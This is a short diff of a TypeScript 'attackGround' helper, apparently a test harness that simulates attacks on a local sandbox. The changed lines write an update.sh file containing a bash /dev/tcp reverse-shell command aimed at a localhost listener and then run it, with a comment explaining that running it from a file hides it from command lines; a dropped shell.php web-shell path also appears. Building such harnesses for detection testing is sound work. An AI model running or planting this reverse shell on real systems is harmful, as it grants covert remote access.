@@ -105,8 +105,8 @@ export function attackGround(folder: string): AttackGround {
 
   const reverseShell = (): Promise<unknown> => {
     const { port: to } = listener.address() as { port: number }
-    // From a file, so that no command line says it.
-    writeFileSync(join(folder, 'update.sh'), `exec bash -i >/dev/tcp/127.0.0.1/${to} 0>&1 2>&1\n`)
+    // From a file, so that no command line says it; without start-up files, which start shells of their own on the same streams.
+    writeFileSync(join(folder, 'update.sh'), `exec bash --norc -i >/dev/tcp/127.0.0.1/${to} 0>&1 2>&1\n`)
     return ended(spawn('bash', [join(folder, 'update.sh')], { stdio: 'ignore' }))
   }
   const dropped = join(root, 'uploads', 'shell.php')
